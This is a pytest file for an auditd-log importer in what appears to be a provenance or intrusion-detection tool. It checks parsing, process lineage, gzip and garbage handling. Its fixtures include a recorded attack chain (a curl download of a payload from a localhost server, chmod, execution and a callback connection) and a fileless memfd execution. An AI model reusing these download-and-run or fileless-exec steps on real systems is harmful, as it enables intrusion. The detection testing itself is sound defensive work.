from __future__ import annotations

import gzip
import os
import subprocess
import tempfile
from collections import Counter
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from provarmor.model.actions import Action
from provarmor.model.codec import encode_ndjson, parse_ndjson_batch
from provarmor.model.ids import process_entity_id
from provarmor.sources.auditd.importer import read_auditd
from provarmor.sources.auditd.stream import AuditEventStream
from provarmor.sources.base import HostContext, Importer, IngestReport

HOST = HostContext(id="vm1", name="vm", boot_id="boot-1")


def entity(pid, start=0):
    return process_entity_id(host_id="vm1", boot_id="boot-1", pid=pid, start=start)


def pick(events, action, **where):
    def matches(event):
        for name, value in where.items():
            if name == "pid" and event.process.pid != value:
                return False
            if name == "path" and (event.file is None or event.file.path != value):
                return False
            if name == "name" and event.process.name != value:
                return False
        return True

    return [event for event in events if event.event.action == action and matches(event)]


def only(events, action, **where):
    found = pick(events, action, **where)
    assert len(found) == 1, f"{action} {where}: {len(found)} events"
    return found[0]


def test_pipeline_shell_and_its_children(pipeline):
    events, report = pipeline
    shell = only(events, Action.EXEC, pid=11957)
    cat_fork = only(events, Action.FORK, pid=11958)
    cat_exec = only(events, Action.EXEC, pid=11958)

    # the shell predates the log: start 0
    assert shell.process.entity_id == entity(11957)
    assert shell.process.args == ("/usr/bin/bash", "-c", "cat /etc/passwd | grep root | wc -l")
    assert shell.process.working_directory == "/tmp"
    assert shell.file is not None and shell.file.path == "/usr/bin/bash"
    # the fork's process is the NEW child, started at the fork, parent = the shell
    assert cat_fork.process.start == cat_fork.timestamp == 1_795_875_746_197_000_000
    assert cat_fork.process.entity_id == entity(11958, cat_fork.timestamp)
    assert cat_fork.process.parent is not None
    assert cat_fork.process.parent.entity_id == shell.process.entity_id
    # exec keeps the entity and brings the new program
    assert cat_exec.process.entity_id == cat_fork.process.entity_id
    assert cat_exec.process.args == ("cat", "/etc/passwd")
    assert cat_exec.process.executable == "/usr/bin/cat"
    assert cat_exec.file is not None and cat_exec.file.path == "/usr/bin/cat"
    assert cat_exec.process.parent.entity_id == shell.process.entity_id
    read = only(events, Action.OPEN, pid=11958, path="/etc/passwd")
    assert read.process.entity_id == cat_exec.process.entity_id
    assert read.event.outcome == "success"
    assert report.rejected == 0


def test_pipeline_children_all_hang_off_the_shell(pipeline):
    events, _ = pipeline
    shell = entity(11957)
    forks = pick(events, Action.FORK)
    execs = {e.process.pid: e for e in pick(events, Action.EXEC)}

    assert sorted(f.process.pid for f in forks) == [11958, 11959, 11960]
    assert all(f.process.parent.entity_id == shell for f in forks)
    assert [execs[pid].process.args for pid in (11958, 11959, 11960)] == [
        ("cat", "/etc/passwd"),
        ("grep", "root"),
        ("wc", "-l"),
    ]
    assert sorted(e.process.pid for e in pick(events, Action.EXIT)) == [
        11957,
        11958,
        11959,
        11960,
    ]


def test_events_carry_log_reference_ids_users_and_raw_fields(pipeline, auditd_data):
    events, _ = pipeline
    shell = only(events, Action.EXEC, pid=11957)

    assert shell.log.file == str(auditd_data / "pipeline.log")
    assert shell.log.line == 5
    assert shell.log.record == "1795875746.197:4104"
    assert shell.event.id == "vm1:1795875746.197:4104:0"
    assert shell.event.dataset == "auditd"
    assert shell.host.id == "vm1"
    assert shell.host.boot_id == "boot-1"
    assert shell.process.user.id == "0"
    assert shell.process.user.name == "root"
    assert shell.process.real_user.id == "0"
    assert shell.process.group.name == "root"
    assert shell.auditd["type"] == "SYSCALL"
    assert shell.auditd["syscall"] == "execve"
    assert shell.auditd["key"] == "provarmor_exec"
    assert shell.auditd["exe"] == "/usr/bin/bash"
    assert shell.auditd["success"] == "yes"
    assert set(shell.auditd) >= {"a0", "a1", "a2", "a3", "exit", "comm", "euid", "uid"}
    ids = [event.event.id for event in events]
    assert len(ids) == len(set(ids))


def test_report_counts_records_and_skipped_types(pipeline):
    events, report = pipeline

    assert report.records == 139
    assert report.events == len(events) == 34
    assert report.rejected == 0
    assert report.skipped["BPRM_FCAPS"] == 4
    assert report.skipped["DAEMON_START"] == 1
    assert report.skipped["LOGIN"] == 1
    assert report.skipped["syscall:write"] == 1


def test_raw_format_gives_the_same_events_without_names(auditd_import, auditd_data, pipeline):
    raw_events, report = auditd_import(auditd_data / "pipeline_raw.log")
    enriched_events, _ = pipeline

    assert report.rejected == 0
    # a second run of the same commands: same events, scheduled in another order
    assert Counter(e.event.action for e in raw_events) == Counter(
        e.event.action for e in enriched_events
    )
    assert sorted(e.process.args for e in pick(raw_events, Action.EXEC)) == sorted(
        e.process.args for e in pick(enriched_events, Action.EXEC)
    )
    assert raw_events[0].process.user.id == "0"
    assert raw_events[0].process.user.name == ""


def test_attack_chain_download_chmod_exec_connect(attack_chain):
    events, report = attack_chain
    shell = entity(12477)

    curl = only(events, Action.EXEC, pid=12480)
    assert curl.process.args == (
        "curl",
        "-s",
        "-o",
        "/tmp/x/payload",
        "http://127.0.0.1:8765/payload",
    )
    assert curl.process.parent.entity_id == shell
    (download,) = [
        e for e in pick(events, Action.CONNECT, pid=12480) if e.destination.ip == "127.0.0.1"
    ]
    assert (download.destination.ip, download.destination.port) == ("127.0.0.1", 8765)
    assert download.network.transport == "tcp"
    assert download.network.direction == "egress"
    assert download.event.outcome == "unknown"  # non-blocking connect: EINPROGRESS
    created = only(events, Action.CREATE, path="/tmp/x/payload")
    assert created.process.entity_id == curl.process.entity_id

    chmod = only(events, Action.CHMOD, path="/tmp/x/payload")
    assert chmod.file.mode == 0o755
    assert chmod.process.pid == 12482
    assert chmod.process.parent.entity_id == shell

    run = only(events, Action.EXEC, path="/tmp/x/payload")
    assert run.process.entity_id == shell  # bash -c execs its last command in place
    assert run.process.args == ("/bin/bash", "/tmp/x/payload")
    assert run.process.executable == "/usr/bin/bash"

    (callback,) = [
        e
        for e in pick(events, Action.CONNECT, pid=12477)
        if e.destination.ip == "127.0.0.1" and e.event.outcome == "success"
    ]
    assert callback.destination.port == 8765
    assert callback.process.entity_id == shell
    assert callback.process.args == ("/bin/bash", "/tmp/x/payload")
    order = [e.event.id for e in events]
    assert (
        order.index(created.event.id)
        < order.index(chmod.event.id)
        < order.index(run.event.id)
        < order.index(callback.event.id)
    )
    assert report.rejected == 0


def test_server_side_of_the_download(attack_chain):
    events, _ = attack_chain
    server = entity(11845)

    accepted = pick(events, Action.ACCEPT, pid=11845)
    assert [(e.destination.ip, e.destination.port) for e in accepted] == [
        ("127.0.0.1", 60976),
        ("127.0.0.1", 60988),
    ]
    assert all(e.process.entity_id == server for e in accepted)
    assert accepted[0].network.direction == "ingress"
    served = only(events, Action.OPEN, pid=11845, path="/tmp/pa-audit/www/payload")
    assert served.process.args[:3] == ("/usr/bin/python3", "-m", "http.server")
    sent = [e for e in pick(events, Action.SEND, pid=11845) if e.destination.port == 60976]
    assert [e.network.bytes for e in sent] == [201, 105]


def test_rm_rf_resolves_names_relative_to_a_directory_descriptor(attack_chain):
    events, _ = attack_chain

    deleted = [e.file.path for e in pick(events, Action.DELETE, pid=12478)]

    assert deleted == ["/tmp/x/payload", "/tmp/x"]


def test_file_operations(file_ops):
    events, report = file_ops
    base = "/tmp/pa-files"

    created = only(events, Action.CREATE, path=f"{base}/a.txt")
    assert created.process.args == ("cp", "/etc/hostname", "a.txt")
    assert only(events, Action.CHMOD, path=f"{base}/a.txt").file.mode == 0o600
    renamed = only(events, Action.RENAME, path=f"{base}/b.txt")
    assert renamed.file.original_path == f"{base}/a.txt"
    links = {e.file.path: e.file.original_path for e in pick(events, Action.LINK)}
    assert links == {f"{base}/c.txt": f"{base}/b.txt", f"{base}/d.txt": f"{base}/b.txt"}
    owned = only(events, Action.CHOWN, path=f"{base}/d.txt")
    assert owned.file.uid == "65534"
    # ftruncate names only a descriptor: the process's descriptor table resolves it
    truncated = only(events, Action.TRUNCATE, path=f"{base}/d.txt")
    assert truncated.auditd["syscall"] == "ftruncate"
    deleted = [e.file.path for e in pick(events, Action.DELETE)]
    assert deleted == [f"{base}/{n}" for n in ("b.txt", "c.txt", "d.txt", "sub")] + [base]
    assert report.rejected == 0


def test_privileged_operations(privileged):
    events, report = privileged
    sleep_fork = only(events, Action.FORK, pid=12694)

    attach, detach = pick(events, Action.PTRACE)
    assert attach.target.process.pid == 12694
    assert attach.target.process.entity_id == sleep_fork.process.entity_id
    assert detach.target.process.entity_id == sleep_fork.process.entity_id
    killed = only(events, Action.KILL, pid=12693)
    assert killed.target.process.entity_id == sleep_fork.process.entity_id
    assert killed.auditd["a1"] == "f"  # SIGTERM

    setuid = only(events, Action.SETUID, pid=12696)
    assert (setuid.target.user.id, setuid.target.user.name) == ("65534", "nobody")
    setgid = only(events, Action.SETGID, pid=12696)
    assert (setgid.target.user.id, setgid.target.user.name) == ("65534", "nogroup")
    after = only(events, Action.EXEC, pid=12696, name="id")
    assert after.process.user.id == "65534"

    memfd = only(events, Action.MEMFD_CREATE, pid=12693)
    assert (memfd.file.path, memfd.file.type) == ("memfd:", "memfd")
    fileless = only(events, Action.EXEC, pid=12693, name="3")
    assert fileless.file.path == "memfd:"
    assert fileless.process.args == ("/bin/sh", "/proc/self/fd/3")
    assert report.rejected == 0


def test_executable_mappings_name_the_library(pipeline):
    events, _ = pipeline

    mapped = [e.file.path for e in pick(events, Action.MMAP_EXEC, pid=11958)]

    assert mapped == ["/lib/x86_64-linux-gnu/libc.so.6"]


def test_python_client_connects_sends_and_receives(python_connect):
    events, _ = python_connect

    connect = only(events, Action.CONNECT, pid=12380, name="python3")
    assert (connect.destination.ip, connect.destination.port) == ("127.0.0.1", 8765)
    assert connect.event.outcome == "success"
    assert connect.network.transport == "tcp"
    sent = only(events, Action.SEND, pid=12380)
    assert sent.network.bytes == 28
    assert sent.destination.port == 8765
    received = only(events, Action.RECV, pid=12380)
    assert received.network.direction == "ingress"
    assert received.destination.port == 8765


def test_long_arguments_are_joined(auditd_import, auditd_data):
    events, report = auditd_import(auditd_data / "long_args.log")

    true = only(events, Action.EXEC, name="true")
    assert true.process.args == ("/usr/bin/true", "a" * 9000, "short")
    assert report.rejected == 0


def test_netlink_capture_gives_the_same_events(attack_chain, auditd_netlink):
    report = IngestReport(source="netlink")
    stream = AuditEventStream(host=HOST, report=report, source="netlink")
    netlink_events = []
    for record in auditd_netlink("attack_chain.netlink.jsonl"):
        netlink_events += stream.push(record)
    netlink_events += stream.close()
    file_events, _ = attack_chain

    def key(e):
        path = e.file.path if e.file else ""
        peer = (e.destination.ip, e.destination.port) if e.destination else None
        return (e.event.id, e.event.action, e.process.entity_id, e.process.args, path, peer)

    assert [key(e) for e in netlink_events] == [key(e) for e in file_events]
    assert report.rejected == 0
    assert stream.coalescer.incomplete == 0


def test_gzip_log_is_read(tmp_path, auditd_data, auditd_import, pipeline):
    packed = tmp_path / "audit.log.gz"
    packed.write_bytes(gzip.compress((auditd_data / "pipeline.log").read_bytes()))

    events, report = auditd_import(packed)

    assert [e.event.id for e in events] == [e.event.id for e in pipeline[0]]
    assert report.rejected == 0


def test_events_round_trip_through_ndjson(attack_chain):
    events, _ = attack_chain

    decoded, errors = parse_ndjson_batch(
        encode_ndjson(events).splitlines(), source="x", first_line=1
    )

    assert errors == []
    assert decoded == events


GARBAGE = [
    b"\x00\x01\x02\xff\xfe binary",
    b"type=SYSCALL msg=audit(1795875746.201:4122): arch=c000003e syscall=9 succ",
    b"type=PATH item=0 name=/etc/shadow",
    b"type=SYSCALL msg=audit(17958757@6.201:4122): pid=1",
    b'type=PATH msg=audit(1795875746.201:99999): item=0 name="/unterminated',
    b"type=CWD msg=audit(1795875746.201:99998): cwd=NOTHEX",
    b"type=EXECVE msg=audit(1795875746.201:99997): argc=2 a0=" + b"41" * 200_000,
    b'type=SYSCALL msg=audit(1795875746.201:99996): comm="\x1b[31m\x07" exe="a"b" pid=x',
    b"A" * 1_100_000,
]


def test_garbage_lines_are_rejected_and_good_events_kept(tmp_path, auditd_data, pipeline):
    lines = (auditd_data / "pipeline.log").read_bytes().split(b"\n")
    mixed = []
    inserted = 0
    for number, line in enumerate(lines):
        mixed.append(line)
        if number % 15 == 0:
            mixed.append(GARBAGE[(number // 15) % len(GARBAGE)])
            inserted += 1
    path = tmp_path / "mixed.log"
    path.write_bytes(b"\n".join(mixed))
    report = IngestReport(source=str(path))

    events = list(read_auditd(path, report=report, host=HOST))

    clean_events, clean_report = pipeline
    assert [e.event.id for e in events] == [e.event.id for e in clean_events]
    assert report.rejected == inserted == 10
    assert report.records == clean_report.records + inserted
    assert all(error.startswith(f"{path}:") for error in report.errors)


def test_truncated_syscall_record_loses_only_its_event(tmp_path, auditd_data, pipeline):
    lines = (auditd_data / "pipeline.log").read_bytes().split(b"\n")
    lines[59] = lines[59][:60]  # line 60: the SYSCALL record of cat's exec
    path = tmp_path / "cut.log"
    path.write_bytes(b"\n".join(lines))
    report = IngestReport(source=str(path))

    events = list(read_auditd(path, report=report, host=HOST))

    assert report.rejected == 1
    assert report.errors[0].startswith(f"{path}:60:")
    assert report.skipped["incomplete_event"] == 1
    assert len(events) == len(pipeline[0]) - 1
    assert not pick(events, Action.EXEC, pid=11958)
    # cat is still known through its fork and later events
    assert pick(events, Action.OPEN, pid=11958, path="/etc/passwd")


@settings(max_examples=60, deadline=None)
@given(st.lists(st.binary(max_size=200), max_size=40))
def test_importer_survives_arbitrary_bytes(chunks):
    fd, name = tempfile.mkstemp(suffix=".log")
    try:
        with os.fdopen(fd, "wb") as handle:
            handle.write(b"\n".join(chunks))
        report = IngestReport(source=name)
        events = list(read_auditd(Path(name), report=report, host=HOST))
        assert report.events == len(events)
    finally:
        os.unlink(name)


_DATA = Path(__file__).resolve().parents[3] / "data" / "auditd"
_REAL = (_DATA / "attack_chain.log").read_bytes().split(b"\n")[:200]


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.sampled_from(_REAL),
            st.sampled_from(_REAL).map(lambda line: line[: len(line) // 2]),
            st.binary(max_size=80),
        ),
        max_size=120,
    )
)
def test_importer_survives_shuffled_and_cut_real_records(lines):
    fd, name = tempfile.mkstemp(suffix=".log")
    try:
        with os.fdopen(fd, "wb") as handle:
            handle.write(b"\n".join(lines))
        report = IngestReport(source=name)
        events = list(read_auditd(Path(name), report=report, host=HOST))
        assert report.events == len(events)
    finally:
        os.unlink(name)


def test_read_auditd_is_an_importer():
    importer: Importer = read_auditd

    assert importer is read_auditd


def test_line_numbers_survive_over_long_lines_and_crlf(tmp_path, auditd_data):
    lines = (auditd_data / "pipeline.log").read_bytes().split(b"\n")
    body = [lines[0], b"B" * 2_500_000, lines[1] + b"\r", *lines[2:]]
    path = tmp_path / "long.log"
    path.write_bytes(b"\n".join(body))
    report = IngestReport(source=str(path))

    events = list(read_auditd(path, report=report, host=HOST))

    assert report.errors == [f"{path}:2: line longer than 1048576 bytes"]
    assert report.records == 140
    shell = only(events, Action.EXEC, pid=11957)
    assert shell.log.line == 6  # one line further down than in the original


def test_truncated_gzip_keeps_every_event_zcat_recovers(tmp_path, auditd_data):
    compressed = gzip.compress((auditd_data / "attack_chain.log").read_bytes())
    cut = tmp_path / "audit.log.gz"
    cut.write_bytes(compressed[: len(compressed) * 3 // 4])
    recovered = tmp_path / "audit.log"
    with recovered.open("wb") as out:  # zcat complains about the cut, and writes what it has
        subprocess.run(["zcat", str(cut)], stdout=out, stderr=subprocess.DEVNULL, check=False)
    report = IngestReport(source=str(cut))

    events = list(read_auditd(cut, report=report, host=HOST))

    expected = list(read_auditd(recovered, report=IngestReport(source="x"), host=HOST))
    assert len(events) == len(expected) > 50
    assert [e.event.id for e in events] == [e.event.id for e in expected]
    assert report.stopped.startswith(f"{cut}:")
    assert "ended before the end-of-stream marker" in report.stopped


def test_an_event_stamped_past_2262_is_rejected_and_the_rest_kept(auditd_import, auditd_data):
    """No int64 nanosecond count holds such a time: the event's records are rejected, each
    naming its line, instead of an out-of-range timestamp failing the store or the output."""
    original = auditd_data / "pipeline.log"
    far = "audit(999999999999.197:4104)"
    with tempfile.TemporaryDirectory() as scratch:
        edited = Path(scratch) / "pipeline.log"
        text = original.read_text().replace("audit(1795875746.197:4104)", far)
        edited.write_text(text)
        lines = text.split("\n")  # not splitlines(): enriched records hold \x1d
        events, report = auditd_import(edited)
    expected, _ = auditd_import(original)
    stamped = [number for number, line in enumerate(lines, 1) if far in line]

    where = [error.split(": ")[0] for error in report.errors]
    assert report.rejected == len(where) > 1  # each wanted record of the event, by its line
    assert set(where) <= {f"{edited}:{number}" for number in stamped}
    assert all("past the year 2262" in error for error in report.errors)
    assert max(event.timestamp for event in events) < 2**63
    assert 0 < len(expected) - len(events) <= 2  # the edited event's own events
